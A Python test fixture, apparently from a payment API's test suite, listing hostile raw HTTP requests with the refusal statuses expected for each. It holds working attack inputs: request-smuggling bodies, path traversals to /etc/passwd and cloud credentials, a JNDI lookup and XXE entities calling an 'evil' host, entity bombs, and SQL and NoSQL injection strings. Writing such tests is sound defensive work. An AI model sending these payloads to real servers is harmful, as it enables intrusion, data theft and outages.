# SPDX-FileCopyrightText: payops contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""The table of hostile requests that test_hostile.py sends as raw bytes: what is no HTTP, what two readers could read in two
ways, what is too much, and what only looks odd and is taken.

@TOKEN@ is filled in by the test. SMUGGLED is a good payment: whoever finds it in the wrong place makes it.
"""
import base64
import itertools
import json
from collections import namedtuple

from bad_requests import BEARER, CHUNKED, GOOD_BODY, JSON_TYPE, chunked, wire

# statuses of the first answer (0: closed without one); `answers`: how many there may be at most
Case = namedtuple("Case", "name raw statuses answers")

SMUGGLED = wire(GOOD_BODY, (JSON_TYPE, BEARER, b"X-Request-Id: smuggled"))
REFUSED = (0, 400)
XML_TYPE = b"Content-Type: application/xml"


def case(name, raw, *statuses, answers=1):
    return Case(name, raw, statuses or REFUSED, answers)


def head(*lines, method=b"POST", target=b"/transactions", version=b"HTTP/1.1"):
    """A request up to its body, with these lines and nothing of ours but Host, type and token."""
    return b"\r\n".join([b" ".join((method, target, version)), b"Host: 127.0.0.1", JSON_TYPE, BEARER, *lines, b"", b""])


# --- one length too many: CL.TE, TE.CL, TE.TE ---

# Ends for who believes in chunks, goes on for who believes in the length.
ENDS_BY_CHUNKS = b"0\r\n\r\n" + SMUGGLED
# And the other way round.
ENDS_BY_LENGTH = b"%x\r\n" % len(SMUGGLED) + SMUGGLED + b"\r\n0\r\n\r\n"

CODINGS = [b"chunked", b" chunked", b"\tchunked", b"chunked ", b"chunked\t", b"Chunked", b"CHUNKED", b"xchunked", b"chunkedx",
           b"chunked, identity", b"identity, chunked", b"chunked,", b",chunked", b"chunked;q=1", b'"chunked"', b"chu nked",
           b"\x0bchunked", b"chunked\x0b", b"\xc2\xa0chunked", b"gzip", b"identity", b"", b"cow", b"gzip, chunked", b"null"]
NAMES = [b"Transfer-Encoding :", b"Transfer-Encoding\t:", b"transfer-encoding:", b"TRANSFER-ENCODING:",
         b"X: y\nTransfer-Encoding:", b"X: y\rTransfer-Encoding:", b"X:\r\n Y\r\nTransfer-Encoding:", b"Transfer-Encoding:\r\n "]


def two_lengths():
    for number, coding in enumerate(CODINGS):
        line = b"Transfer-Encoding:" + (b" " if coding[:1] not in b" \t\x0b" else b"") + coding
        length = b"Content-Length: %d" % len(ENDS_BY_CHUNKS)
        yield case(f"length, then coding {coding!r}", head(length, line) + ENDS_BY_CHUNKS)
        yield case(f"coding {coding!r}, then length", head(line, length) + ENDS_BY_CHUNKS)
        yield case(f"coding {coding!r}, short length {number}", head(line, b"Content-Length: 4") + ENDS_BY_LENGTH)
    for name in NAMES:
        line = name + (b"" if name.endswith(b" ") else b" ") + b"chunked"
        length = b"Content-Length: %d" % len(ENDS_BY_CHUNKS)
        yield case(f"length, then {name!r}", head(length, line) + ENDS_BY_CHUNKS)
        yield case(f"{name!r}, then length", head(line, length) + ENDS_BY_CHUNKS)
    for one, other in itertools.product((b"chunked", b"identity", b"cow", b"gzip"), repeat=2):
        lines = (b"Transfer-Encoding: " + one, b"Transfer-Encoding: " + other)
        yield case(f"two codings, {one.decode()} and {other.decode()}", head(*lines) + ENDS_BY_CHUNKS)
    yield case("two codings in one line", head(b"Transfer-Encoding: chunked, chunked") + ENDS_BY_CHUNKS)
    yield case("coding by HTTP/1.0", head(CHUNKED, b"Content-Length: 4", version=b"HTTP/1.0") + ENDS_BY_LENGTH)
    yield case("a coding that is not known", head(b"Transfer-Encoding: cow") + ENDS_BY_CHUNKS, 0, 400, 501)


LENGTHS = [b"+4", b"-4", b"4 4", b"4,4", b"4, 4", b"4;", b"4.0", b"0x4", b"4e0", b"4\x0b", b"4_0", b"", b" ", b"four", b"4 ;x",
           b"\xd9\xa4", b"9223372036854775808", b"18446744073709551616", b"18446744073709551620", b"9" * 100, b"- 4", b"4L"]


def bad_lengths():
    for length in LENGTHS:
        yield case(f"length {length[:24]!r}", head(b"Content-Length: " + length) + b"{}  " + SMUGGLED, 0, 400, 413)
    for one, other in ((b"4", b"4"), (b"4", b"5"), (b"0", b"4"), (b"4", b"0"), (b"4", b"04"), (b"4", b"")):
        lines = (b"Content-Length: " + one, b"Content-Length: " + other)
        yield case(f"two lengths {one!r} and {other!r}", head(*lines) + b"{}  " + SMUGGLED)
    yield case("length with a blank before its colon", head(b"Content-Length : 4") + b"{}  " + SMUGGLED)
    yield case("length that is folded", head(b"Content-Length:\r\n 4") + b"{}  " + SMUGGLED)
    yield case("length in a trailer of a GET", head(b"Content-Length: %d" % len(SMUGGLED), method=b"GET",
                                                    target=b"/healthz") + SMUGGLED, 0, 400, 413)


# --- chunks ---

SIZES = [b"4;", b"-4", b"+4", b"0x4", b"4 4", b"4g", b" 4", b"\t4", b"4\x0b", b"", b" ", b"g", b"4,4", b"\xc3\xa9",
         b"fffffffffffffffff", b"ffffffffffffffff", b"8000000000000000", b"7fffffffffffffff", b"1" + b"0" * 64, b"4.0", b'4;"']
ENDINGS = [(b"4\n{}  \r\n0\r\n\r\n", "a line feed behind its size"), (b"4\r{}  \r\n0\r\n\r\n", "a return behind its size"),
           (b"4\r\n{}  0\r\n\r\n", "nothing behind it"), (b"4\r\n{}  \n0\r\n\r\n", "a line feed behind it"),
           (b"4\r\n{}   \r\n0\r\n\r\n", "a byte more"), (b"5\r\n{}  \r\n0\r\n\r\n", "a byte less"),
           (b"4\r\n{}  \r\n", "no last one"), (b"4\r\n{}  \r\n0", "half a last one"), (b"4", "half a size"),
           (b"4\r\n{}  \r\n0\r\n", "no end of the trailer"), (b"4\r\n{}  \r\n00000000000000000\r\n\r\n", "many zeroes")]


def bad_chunks():
    for size in SIZES:
        if size not in (b"4;", b'4;"'):
            yield case(f"chunk size {size[:20]!r}", head(CHUNKED) + size + b"\r\n{}  \r\n0\r\n\r\n", 0, 400, 413, 422)
    for text, name in ENDINGS:
        yield case(f"chunk with {name}", head(CHUNKED) + text + SMUGGLED[:-1], 0, 400, 413, 422)
    # libmicrohttpd has no room for it, and a page of its own that says so.
    yield case("chunk extension of 40 kB", head(CHUNKED) + b"4;" + b"a" * 40000 + b"\r\n{}  \r\n0\r\n\r\n", 0, 400, 413, 422, 500)
    yield case("5,000 trailers", head(CHUNKED) + chunked(b"{}")[:-2] + b"A: b\r\n" * 5000 + b"\r\n", 0, 400, 413, 422, 431)
    yield case("5,000 chunks of a byte", head(CHUNKED) + b"1\r\n \r\n" * 5000 + b"0\r\n\r\n", 0, 400)


# --- lines ---

LINES = [b": x", b":", b" X: y", b"\tX: y", b"X", b"X y", b"X\0: y", b"X: a\0b", b"\0", b"X\x7f : y", b"X : y", b"X\r: y", b"X: y\r",
         b"X: y\n z", b"X: y\r\n z", b"X: y\r\n\tz", b"Host: evil.test", b"Host:", b"\xff\xfe: x", b"(x): y", b"X Y: z",
         b"X: y\rZ: z", b"X@Y: z", b"=: =", b"X: y\x0b", b"@: @", b"A" * 9000 + b": b", b"A: " + b"b" * 20000]


def bad_lines():
    for line in LINES:
        strict = line[:1] in (b" ", b"\t") or b"\0" in line or line in (b"X : y", b"X", b"X y", b":", b": x")
        yield case(f"line {line[:24]!r}", head(b"Content-Length: 1", line) + b"{",
                   *(REFUSED if strict else (0, 400, 413, 431)))
    yield case("all lines end with LF", head(b"Content-Length: 1").replace(b"\r\n", b"\n") + b"{")
    yield case("all lines end with CR", head(b"Content-Length: 1").replace(b"\r\n", b"\r") + b"{" + SMUGGLED)
    yield case("no line ends", head(b"Content-Length: 1").replace(b"\r\n", b" ") + b"{")
    yield case("a blank line in front of the lines", b"POST /transactions HTTP/1.1\r\n\r\n" + SMUGGLED[30:], 0, 400, 401, 415)
    for count in (65, 100, 1000, 10000):
        yield case(f"{count} lines", head(*[b"X-%d: y" % number for number in range(count)], b"Content-Length: 1") + b"{",
                   0, 400, 413, 431)
    yield case("100 kB of cookies", head(b"Cookie: " + b"; ".join([b"c=" + b"v" * 998] * 100)), 0, 400, 413, 431)
    yield case("1,000 cookies", head(*[b"Cookie: c%d=v" % number for number in range(1000)]), 0, 400, 413, 431)
    yield case("a line that never ends", head()[:-4] + b"\r\nX: " + b"a" * 300000, 0, 400, 413, 431)


# --- first lines ---

FIRST = [b"GET /healthz", b"GET", b"", b" ", b"GET  /healthz HTTP/1.1", b"GET /healthz  HTTP/1.1", b"GET\t/healthz\tHTTP/1.1",
         b" GET /healthz HTTP/1.1", b"GET /healthz HTTP/1.1 ", b"GET /healthz HTTP/1.1 x", b"GET /healthz http/1.1",
         b"GET /healthz HTTP/1", b"GET /healthz HTTP/1.", b"GET /healthz HTTP/.1", b"GET /healthz HTTP/1.10",
         b"GET /healthz HTTP/01.1", b"GET /healthz HTTP/2.0", b"GET /healthz HTTP/3", b"GET /healthz HTTP/0.9",
         b"GET /healthz HTTP/-1.1", b"GET /healthz HTTP/1.1\0", b"GET /healthz HTTPS/1.1", b"GET /healthz FTP/1.1",
         b"GET /healthz\0 HTTP/1.1", b"GET\0 /healthz HTTP/1.1", b"GET /heal thz HTTP/1.1", b"GET healthz HTTP/1.1",
         b"GET ?x HTTP/1.1", b"GET #x HTTP/1.1", b"GET http: HTTP/1.1", b"GET \x01 HTTP/1.1", b"GET /healthz\x7f HTTP/1.1",
         b"GET /\xff\xfe HTTP/1.1", b"GET /healthz HTTP/1.1\rX: y", b"/healthz HTTP/1.1", b"HTTP/1.1 200 OK", b"GET / HTTP/9.9"]
ANY_REFUSAL = (0, 400, 404, 405, 414, 431, 501, 505)


def first_lines():
    for line in FIRST:
        # What holds blanks too many or a version to come is read as what was meant; a word ends at a NUL.
        statuses = (*ANY_REFUSAL, 200) if line.startswith((b"GET  /healthz", b"GET\t/", b"GET /healthz", b"GET\0")) \
            else ANY_REFUSAL
        yield case(f"first line {line[:40]!r}", line + b"\r\nHost: x\r\n\r\n", *statuses)


# --- other protocols on this port ---

HELLO = (b"\x16\x03\x01\x00\xc8\x01\x00\x00\xc4\x03\x03" + bytes(32) + b"\x20" + bytes(32) + b"\x00\x08\x13\x02\x13\x03\x13\x01"
         b"\x00\xff\x01\x00\x00\x73" + bytes(115))
PROTOCOLS = {
    "HTTP/2 preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00",
    "HTTP/2 frames": b"\x00\x00\x12\x04\x00\x00\x00\x00\x00\x00\x03\x00\x00\x00\x64\x00\x04\x40\x00\x00\x00\x00\x02",
    "TLS hello": HELLO, "half a TLS hello": HELLO[:50], "SSL 2 hello": b"\x80\x2e\x01\x00\x02\x00\x15\x00\x00\x00\x10" + bytes(30),
    "SSH": b"SSH-2.0-OpenSSH_9.2\r\n", "SMTP": b"EHLO evil.test\r\nMAIL FROM:<a@b>\r\n", "FTP": b"USER anonymous\r\nPASS x\r\n",
    "Redis": b"*1\r\n$8\r\nFLUSHALL\r\n", "Redis in words": b"FLUSHALL\r\nQUIT\r\n", "memcached": b"flush_all\r\nstats\r\n",
    "MySQL": b"\x20\x00\x00\x01\x85\xa6\x3f\x20\x00\x00\x00\x01\x21" + bytes(23), "SOCKS 4": b"\x04\x01\x00\x50\x7f\x00\x00\x01\x00",
    "SOCKS 5": b"\x05\x01\x00", "RDP": b"\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00",
    "PROXY 1": b"PROXY TCP4 10.0.0.1 10.0.0.2 1 2\r\nGET /healthz HTTP/1.1\r\nHost: x\r\n\r\n",
    "PROXY 2": b"\r\n\r\n\0\r\nQUIT\n\x21\x11\x00\x0c" + bytes(12), "AMQP": b"AMQP\x00\x00\x09\x01",
    "FastCGI": b"\x01\x01\x00\x01\x00\x08\x00\x00" + bytes(8), "AJP": b"\x12\x34\x00\x01\x0a", "gopher": b"/secrets\r\n",
    "HTTP/0.9": b"GET /healthz\r\n", "HTTP/0.9 with LF": b"GET /transactions\n", "an answer": b"HTTP/1.1 200 OK\r\n\r\n",
    "NULs": bytes(5000), "returns": b"\r" * 5000, "line feeds": b"\n" * 5000, "lines": b"\r\n" * 2000, "FF": b"\xff" * 5000,
    "noise": bytes((i * 167 + (i >> 8) * 13) % 256 for i in range(5000)), "one byte": b"G", "a colon": b":\r\n\r\n",
}


def protocols():
    for name, raw in PROTOCOLS.items():
        yield case(name, raw, *ANY_REFUSAL)
    for name, lines in {
            "upgrade to HTTP/2": (b"Connection: Upgrade, HTTP2-Settings", b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA"),
            "upgrade to a web socket": (b"Connection: Upgrade", b"Upgrade: websocket", b"Sec-WebSocket-Key: eA==",
                                        b"Sec-WebSocket-Version: 13")}.items():
        yield case(name, head(*lines, b"Content-Length: 1") + b"{" + SMUGGLED[:10])


# --- methods and what wants to change them ---

def methods():
    for method in (b"TRACE", b"TRACK", b"DEBUG", b"CONNECT", b"PROPFIND", b"MKCOL", b"MOVE", b"COPY", b"LOCK", b"PURGE", b"get",
                   b"GeT", b"G" * 5000, b"G\xc3\x89T", b"{}", b"-", b"GET,POST", b"SELECT", b"OPTIONSX"):
        yield case(f"method {method[:20]!r}", head(method=method, target=b"/healthz"), *ANY_REFUSAL)
    for line in (b"X-HTTP-Method-Override: GET", b"X-HTTP-Method: GET", b"X-Method-Override: GET"):
        yield case(f"{line.decode()} on a DELETE", head(line, method=b"DELETE", target=b"/healthz"), 405)
    yield case("_method in the query", head(method=b"POST", target=b"/healthz?_method=GET"), 405)


# --- targets ---

TRAVERSALS = [b"/../healthz", b"/..;/healthz", b"/.;/healthz", b"/%2e%2e/healthz", b"/%2e/healthz", b"/%252e%252e/healthz",
              b"/healthz/..%2f", b"/healthz%2f", b"/healthz%00", b"/healthz%00.json", b"/healthz%0d%0aSet-Cookie:%20a=b",
              b"/healthz%0aX:%20y", b"/healthz;jsessionid=1", b"/healthz/;/", b"/HEALTHZ", b"/healthz\\", b"/\\healthz", b"\\\\healthz",
              b"/healthz%5c", b"/%c0%ae%c0%ae/healthz", b"/%e0%80%ae/healthz", b"/%u002e%u002e/healthz", b"/healthz%ff",
              b"/docs/../../../../etc/passwd", b"/docs%2f..%2f..%2fetc%2fpasswd", b"/docs/%2e%2e%2f%2e%2e%2fetc/passwd",
              b"/openapi.json/../metrics", b"/openapi.json%00", b"/metrics/", b"/.well-known/security.txt", b"/server-status",
              b"/cgi-bin/test", b"/wp-login.php", b"/.aws/credentials", b"/actuator/env", b"/..%c0%af..%c0%afetc/passwd",
              b"/transactions/..%2fhealthz", b"/transactions/%2e%2e", b"/healthz//", b"///healthz", b"/%68ealthz/x",
              b"/transactions/${jndi:ldap:%2f%2fevil}", b"/transactions/{{7*7}}", b"/transactions/<script>", b"/" + b"../" * 2000]


def targets():
    for target in TRAVERSALS:
        yield case(f"target {target[:44]!r}", wire(b"", (BEARER,), b"GET", target), 0, 400, 404, 414, 422, 431)
    for target in (b"ftp://x/healthz", b"file:///etc/passwd", b"javascript:alert(1)", b"http://", b"http:///healthz/x",
                   b"https://evil.test/nothing", b"http://a@b:c@evil.test/nothing", b"*", b"127.0.0.1:80", b"http://[::1/nothing"):
        yield case(f"target {target.decode()}", wire(b"", (BEARER,), b"GET", target), 0, 400, 404, 422)
    for query in (b"access_token=@TOKEN@", b"token=@TOKEN@", b"jwt=@TOKEN@", b"api_key=po_live_x"):
        yield case(f"query {query.decode()[:20]}", wire(b"", (), b"GET", b"/transactions?" + query), 0, 400, 401)
    yield case("token in a cookie", wire(b"", (b"Cookie: token=@TOKEN@; Authorization=Bearer @TOKEN@",), b"GET"), 401)


# --- who asks ---

def basic(text):
    return b"Basic " + base64.b64encode(text)


CREDENTIALS = [b"", b"Bearer", b"Bearer ", b"bearer", b"Bearer @TOKEN@,@TOKEN@", b"Bearer @TOKEN@ x", b"Bearer  @TOKEN@ ;", b"Token @TOKEN@",
               b"JWT @TOKEN@", b"@TOKEN@", basic(b"root:"), basic(b"admin:admin"), b"Digest username=x", b"Negotiate YII=",
               b"Bearer " + b"a" * 5000, b"Bearer " + b"." * 3000, b"Bearer a.b", b"Bearer ..", b"Bearer @TOKEN@=", b"Bearer @TOKEN@.x",
               b"Bearer \xff\xfe", b"Bearer eyJhbGciOiJub25lIn0.e30.", b"Bearer po_live_", b"Bearer po_live_' OR '1'='1",
               b"Bearer po_live_0123456789abcdef_" + b"A" * 43, b"Bearer po_live_0123456789abcdef_" + b"A" * 4000,
               b"Bearer @TOKEN@\x0b", b"Bearer\t@TOKEN@x", b"Bearer null", b"Bearer undefined", b'Bearer "@TOKEN@"']


def credentials():
    for text in CREDENTIALS:
        # Who guesses for long is asked to wait.
        yield case(f"credentials {text[:30]!r} of {len(text)}", wire(GOOD_BODY, (JSON_TYPE, b"Authorization: " + text)), 0, 400, 401, 429, 431)


# --- bodies ---

def xml(name, text, *statuses):
    text = text if isinstance(text, bytes) else text.encode()
    return case(f"XML: {name}", wire(text, (XML_TYPE, BEARER)), *(statuses or (400,)))


LAUGHS = '<!DOCTYPE a [<!ENTITY l0 "lol">' + "".join(
    f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)) + "]><a><amount>&l9;</amount></a>"
QUADRATIC = f'<!DOCTYPE a [<!ENTITY x "{"x" * 20000}">]><a>{"&x;" * 5000}</a>'
PAYMENT_XML = "<payment><amount>10.00</amount><currency>USD</currency><payment_method>credit_card</payment_method>" \
    "<customer_id>c</customer_id>{}</payment>"


def xml_bodies():
    for target in ("file:///etc/passwd", "http://127.0.0.1:1/x", "ftp://127.0.0.1/x", "php://filter/x", "expect://id", "jar:file:///x!/y",
                   "//evil/share", "data:,x"):
        yield xml(f"external entity {target}", f'<!DOCTYPE a [<!ENTITY x SYSTEM "{target}">]><a><amount>&x;</amount></a>')
        yield xml(f"external parameter entity {target}", f'<!DOCTYPE a [<!ENTITY % x SYSTEM "{target}"> %x;]><a/>')
        yield xml(f"external DTD {target}", f'<!DOCTYPE a SYSTEM "{target}"><a/>')
    yield xml("a public DTD", '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://evil.test/x.dtd"><html/>')
    yield xml("billion laughs", LAUGHS)
    yield xml("quadratic blow-up", QUADRATIC, 400, 413)
    yield xml("an entity that names itself", '<!DOCTYPE a [<!ENTITY x "&x;">]><a>&x;</a>')
    yield xml("an empty DTD", "<!DOCTYPE a><a/>")
    yield xml("an attribute list", '<!DOCTYPE a [<!ATTLIST a b CDATA "c">]><a/>')
    yield xml("XInclude", '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></a>',
              400, 422)
    yield xml("a stylesheet", '<?xml-stylesheet href="http://evil.test/x.xsl"?><a/>')
    yield xml("an unknown entity", "<a>&nbsp;</a>")
    yield xml("a schema's address", '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x http://evil.test/x"/>',
              400, 422)
    for reference in ("&#0;", "&#x0;", "&#xFFFFFFFF;", "&#xD800;", "&#8;", "&#xFFFE;", "&#99999999999999999999;", "&#;", "&#x;", "&;"):
        yield xml(f"reference {reference}", PAYMENT_XML.format(f"<description>{reference}</description>"))
    for encoding in ("UTF-16", "UTF-7", "ISO-8859-1", "US-ASCII", "EBCDIC-US", "x", "utf-32"):
        yield xml(f"encoding {encoding}", f'<?xml version="1.0" encoding="{encoding}"?>' + PAYMENT_XML.format("<x/>"), 400, 422)
    yield xml("UTF-16 in truth", PAYMENT_XML.format("<x/>").encode("utf-16"))
    yield xml("version 1.1", '<?xml version="1.1"?><a/>', 400, 422)
    yield xml("not UTF-8", b"<a><amount>\xff</amount></a>")
    yield xml("overlong UTF-8", b"<a><amount>\xc0\xbc</amount></a>")
    yield xml("NUL", b"<a>\0</a>")
    yield xml("depth 17", "<a>" * 17 + "</a>" * 17)
    yield xml("depth 10,000", "<a>" * 10000 + "</a>" * 5000, 400, 413)
    yield xml("depth 9,000, closed", "<a>" * 4500 + "</a>" * 4500)
    yield xml("5,000 elements", "<a>" + "<b/>" * 5000 + "</a>", 400, 422)
    yield xml("2,000 attributes", "<a " + " ".join(f'a{i}="x"' for i in range(2000)) + "/>", 400, 422)
    yield xml("2,000 name spaces", "<a " + " ".join(f'xmlns:a{i}="x"' for i in range(2000)) + "/>", 400, 422)
    yield xml("a name of 60 kB", "<" + "a" * 60000 + "/>", 400, 422)
    yield xml("an attribute of 60 kB", f'<a b="{"c" * 60000}"/>', 400, 422)
    yield xml("60 kB of comment", "<a><!--" + "x" * 60000 + "--></a>", 400, 422)
    yield xml("60 kB in CDATA", "<a><amount><![CDATA[" + "x" * 60000 + "]]></amount></a>", 400, 422)
    yield xml("a member twice", PAYMENT_XML.format("<amount>11.00</amount>"), 400, 422)
    yield xml("two roots", "<a/><b/>")
    yield xml("never closed", "<a><b>")
    yield xml("closed crosswise", "<a><b></a></b>")
    yield xml("JSON", '{"amount":1}')
    yield xml("nothing", "")
    yield xml("text only", "payment")


def json_case(name, text, *statuses):
    return case(f"JSON: {name}", wire(text if isinstance(text, bytes) else text.encode(), (JSON_TYPE, BEARER)),
                *(statuses or (400, 422)))


def json_bodies():
    for number in ("1e999999", "-1e999999", "1" * 5000, "1." + "1" * 5000, "0." + "0" * 5000 + "1", "1e-99999", "9" * 19, "-0.0",
                   "123456789012345678901234567890", "4.9e-324", "1E+2", "0e0"):
        yield json_case(f"number {number[:20]}", '{"amount":' + number + "}")
        yield json_case(f"nested number {number[:20]}", '{"metadata":{"a":[' + number + "]}}")
    for depth in (16, 17, 1000, 30000):
        yield json_case(f"{depth} arrays", '{"metadata":' + "[" * depth + "]" * depth + "}")
        yield json_case(f"{depth} objects", '{"a":' * depth + "1" + "}" * depth, 400, 413, 422)
        yield json_case(f"{depth} arrays that stay open", '{"metadata":' + "[" * depth)
    yield json_case("5,000 members", "{" + ",".join(f'"m{i}":1' for i in range(5000)) + "}")
    yield json_case("20,000 elements", '{"metadata":[' + ",".join(["1"] * 20000) + "]}")
    yield json_case("20,000 empty arrays", '{"metadata":[' + ",".join(["[]"] * 20000) + "]}")
    yield json_case("1,000 equal members", "{" + ",".join(['"a":1'] * 1000) + "}")
    yield json_case("members that look equal", '{"amount":1,"amount\u200b":2,"\u0430mount":3}')
    yield json_case("60 kB of escapes", '{"description":"' + "\\u0041" * 10000 + '"}')
    yield json_case("60 kB of one string", '{"description":"' + "x" * 60000 + '"}')
    yield json_case("a name of 60 kB", '{"' + "x" * 60000 + '":1}')
    yield json_case("60 kB of blanks", " " * 60000)
    yield json_case("prototype", json.dumps({"__proto__": {"amount": 1}, "constructor": {"prototype": {}}}))
    yield json_case("operators of a document store", '{"amount":{"$gt":0},"customer_id":{"$ne":null}}')
    yield json_case("type confusion", '{"amount":["1000"],"currency":{"a":"USD"},"payment_method":true,"customer_id":null}')
    for name, raw in (("lone surrogates", b'{"description":"\\ud800"}'), ("escaped NUL", b'{"description":"\\u0000"}'),
                      ("overlong", b'{"description":"\xc0\xaf"}'), ("CESU-8", b'{"description":"\xed\xa0\xbd\xed\xb8\x80"}'),
                      ("UTF-7", b"+AHsAIg-amount+ACIAOg-1+AH0-"), ("UTF-16", "{}".encode("utf-16")), ("mark", b"\xef\xbb\xbf{}"),
                      ("NULs behind", b"{}" + bytes(1000)), ("NULs before", bytes(1000) + b"{}")):
        yield json_case(name, raw)
    for name, raw in (("YAML", b"amount: 1000\n"), ("JSON lines", b'{"a":1}\n{"b":2}'), ("a form", b"amount=1000&currency=USD"),
                      ("JSON5", b"{amount:1000,}"), ("msgpack", b"\x81\xa6amount\xcd\x03\xe8"), ("pickle", b"\x80\x04K\x01."),
                      ("serialised Java", b"\xac\xed\x00\x05sr\x00\x01a"), ("PHP", b'a:1:{s:1:"a";i:1;}'), ("gzip", b"\x1f\x8b\x08\x00"),
                      ("multipart", b"--x\r\nContent-Disposition: form-data; name=a\r\n\r\n1\r\n--x--")):
        yield json_case(name, raw)


# --- callbacks: nobody here has the gateway's secret ---

SIGNATURES = [b"", b"t=1", b"v1=", b"t=,v1=", b"t=1,v1=" + b"0" * 64, b"t=99999999999,v1=" + b"f" * 64, b"t=-1,v1=" + b"0" * 64,
              b"t=1e9,v1=" + b"0" * 64, b"v1=" + b"0" * 64 + b",t=1", b"t=1,v1=" + b"0" * 5000, b"t=1,v1=" + b"g" * 64, b"t=1,v0=x",
              b"t=1,v1=x,v1=y", b"t=18446744073709551617,v1=" + b"0" * 64, b"\xff", b"t=0,v1=null", b"${jndi:ldap://x}", b"' OR 1=1 --"]


def callbacks():
    for target in (b"/callback/trans_01M7YTV6ECD2DYMZZGJMTR1Z1T", b"/gateways/alpha/callbacks", b"/gateways/nobody/callbacks"):
        for signature in SIGNATURES:
            yield case(f"callback to {target.decode()[:18]} signed {signature[:12]!r} of {len(signature)}",
                       wire(b'{"gateway_txn_id":"g","status":"completed"}', (JSON_TYPE, b"Sandbox-Signature: " + signature),
                            target=target), 0, 400, 401, 404, 429, 431)


# --- what is odd, and right all the same ---

HEALTH = (b"GET", b"/healthz")
ODD = [
    case("a blank line before the request", b"\r\n" + wire(b"", (), *HEALTH), 200),
    case("lower-case names", wire(b"", (), *HEALTH).replace(b"Host", b"hOsT"), 200),
    case("an absolute target", wire(b"", (), b"GET", b"http://127.0.0.1/healthz"), 200),
    case("an absolute target of another host", wire(b"", (), b"GET", b"http://other.test:81/healthz"), 200),
    case("HTTP/1.0 without Host", b"GET /healthz HTTP/1.0\r\n\r\n", 200),
    case("a percent-encoded path", wire(b"", (), b"GET", b"/%68ealthz"), 200, 404),
    case("60 lines", wire(b"", [b"X-%d: y" % number for number in range(60)], *HEALTH), 200),
    case("an empty value", wire(b"", (b"X:",), *HEALTH), 200),
    case("bytes above ASCII in a value", wire(b"", (b"X: \xc3\xa9\xff",), *HEALTH), 200),
    case("a method to override with", wire(b"", (b"X-HTTP-Method-Override: DELETE",), *HEALTH), 200),
    case("a forged origin", wire(b"", (b"X-Forwarded-For: 127.0.0.1", b"Forwarded: for=127.0.0.1"), *HEALTH), 200),
    case("an upgrade that is not taken", wire(b"", (b"Connection: Upgrade", b"Upgrade: h2c"), *HEALTH), 200),
    case("a question mark and nothing", wire(b"", (), b"GET", b"/healthz?"), 200),
    case("6 kB of cookie", wire(b"", (b"Cookie: c=" + b"v" * 6000,), *HEALTH), 200),
    case("an empty body in chunks", wire(b"", (BEARER, CHUNKED), b"POST", b"/nothing", length=False) + b"0\r\n\r\n", 404),
    case("a chunk extension", head(CHUNKED) + b'1;a="b";c\r\n{\r\n0\r\n\r\n', 400),
    case("trailers", head(CHUNKED) + b"1\r\n{\r\n0\r\nAuthorization: x\r\nContent-Length: 5\r\n\r\n", 400),
    case("sizes with zeroes and capitals", head(CHUNKED) + b"00001\r\n{\r\n000A\r\n          \r\n0\r\n\r\n", 400),
    case("100 requests in one go", wire(b"", (), *HEALTH) * 100, 200, answers=100),
    case("a wrong one among 20", wire(b"", (), *HEALTH) * 10 + b"nonsense\r\n\r\n" + SMUGGLED * 10, 200, answers=11),
]

CASES = [*two_lengths(), *bad_lengths(), *bad_chunks(), *bad_lines(), *first_lines(), *protocols(), *methods(), *targets(), *credentials(),
         *xml_bodies(), *json_bodies(), *callbacks(), *ODD]
